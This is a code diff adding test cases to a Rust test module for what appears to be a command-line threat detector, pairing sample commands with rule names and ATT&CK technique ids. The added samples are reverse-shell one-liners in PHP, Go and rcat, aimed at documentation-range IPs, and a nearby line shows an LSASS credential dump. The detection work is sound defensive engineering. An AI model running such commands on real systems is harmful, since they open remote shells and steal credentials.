@@ -233,6 +233,26 @@ mod tests {
                 "T1059.004",
             ),
             (
+                "php -r '$s=fsockopen(\"192.0.2.7\",443);passthru(\"/bin/sh -i <&3 >&3\");'",
+                "reverse-shell-script",
+                "T1059",
+            ),
+            (
+                "php -r '$c=fsockopen(\"198.51.100.2\",8080);`sh <&3 >&3 2>&3`;'",
+                "reverse-shell-script",
+                "T1071",
+            ),
+            (
+                "c,_:=net.Dial(\"tcp\",\"203.0.113.5:53\");cmd:=exec.Command(\"bash\");cmd.Stdin=c",
+                "reverse-shell-script",
+                "T1059",
+            ),
+            (
+                "rcat connect -s bash 203.0.113.9 4444",
+                "reverse-shell-netcat",
+                "T1059",
+            ),
+            (
                 "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
                 "lsass-dump",
                 "T1003.001",
